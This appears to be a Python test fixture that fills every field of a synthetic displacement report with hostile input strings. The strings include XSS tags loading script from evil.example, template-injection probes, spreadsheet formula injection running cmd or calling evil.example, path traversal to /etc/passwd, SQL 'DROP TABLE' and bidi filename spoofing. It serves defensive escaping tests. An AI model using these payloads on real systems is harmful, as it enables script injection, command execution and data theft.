"""Texts that somebody might put into a report to harm whoever looks at it later, and a case full of them."""

from __future__ import annotations

from dataclasses import replace

from made_case import material

from uprooted.disclosure import Disclosure
from uprooted.faces.material import Material
from uprooted.records import Claim, Dispute, Event, Figure, Incident, Place, Report, Side, Speaker, Support

_SCRIPTS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>", "<object data=evil.swf></object>",
    "<embed src=evil.swf>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example/>",
    "<form action=//evil.example><input name=who></form>", "<button formaction=//evil.example>Accept</button>",
    "<a href=\"javascript:alert(1)\">x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>", "<video><source onerror=alert(1)></video>", "<input autofocus onfocus=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<ScRiPt\t>alert(1)</sCrIpT\n>", "<script\x0c>alert(1)</script>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<x contenteditable onblur=alert(1)>lose focus</x>",
]  # fmt: skip
_TEMPLATES = [
    "{{7*7}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
]
_FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example\",\"x\")", "=IMPORTXML(\"http://evil.example\",\"//a\")", "\t=1+1", "\r=1+1",
    "\uff1d1+1", "=WEBSERVICE(\"http://evil.example\")", "%0A=1+1", "\n=1+1",
]  # fmt: skip
_WORDS = [
    "\u202egnp.exe", "\u2066\u202eevil\u2069", "a\u0000b", "\ufeffBOM", "\u2028\u2029", "Z" + "\u0300" * 200,
    "\u200b\u200c\u200d", "../../etc/passwd", "..\\..\\windows\\system32", "line\nbreak", "'; DROP TABLE claims; --",
    "javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD4=",
]  # fmt: skip
LONG = "x" * 200_000
PAYLOADS = (*_SCRIPTS, *_TEMPLATES, *_FORMULAS, *_WORDS, LONG)


def hostile_material(payloads: tuple[str, ...] = PAYLOADS) -> Material:
    """Return a case in which every text that a report can bring in is a payload, and every payload in every place."""
    made = material()
    first = made.situation.series[0]
    claims, reports, series, incidents, disputes = {}, {}, [], [], []
    for number, payload in enumerate(payloads):
        report, claim = f"r_{number}", f"c_{number}"
        text = f"{payload} said that 6,817 came. {payload}"
        reports[report] = Report(report, text, "ab" * 32, "text", title=payload, publisher=payload, url=payload,
                                 published=made.situation.as_of, file="a.txt")  # fmt: skip
        place = Place(payload, name=payload, lat=35.8, lon=36.3)
        claims[claim] = Claim(
            claim, report, 0, 0, len(payload), payload, speaker=Speaker(payload, kind="resident"), event=Event("flee"),
            figure=Figure(payload, 0, 1, best=9.0, unit="persons"),
            places=(replace(place, role="from"), replace(place, role="to")),
        )  # fmt: skip
        side = Side(payload, (payload,), (claim,))
        disputes.append(Dispute(f"d_{number}", payload, "genuine", (side, side), inference=payload, place=payload))
        point = replace(first.points[0], support=(Support(claim, report, payload, why=payload),), recommended=payload)
        series.append(replace(first, id=f"s_{number}", place=payload, points=(point,)))
        incidents.append(Incident(f"i_{number}", "kill", place=payload, lat=35.8, lon=36.3, best=9.0, claims=(claim,)))
    situation = replace(made.situation, series=tuple(series), incidents=tuple(incidents), disputes=tuple(disputes),
                        gaps=payloads)  # fmt: skip
    settings = replace(made.inputs.settings, name=payloads[0], notice=payloads[0])
    return Material(replace(made.inputs, settings=settings), situation, made.outlook, claims, reports, Disclosure([]))
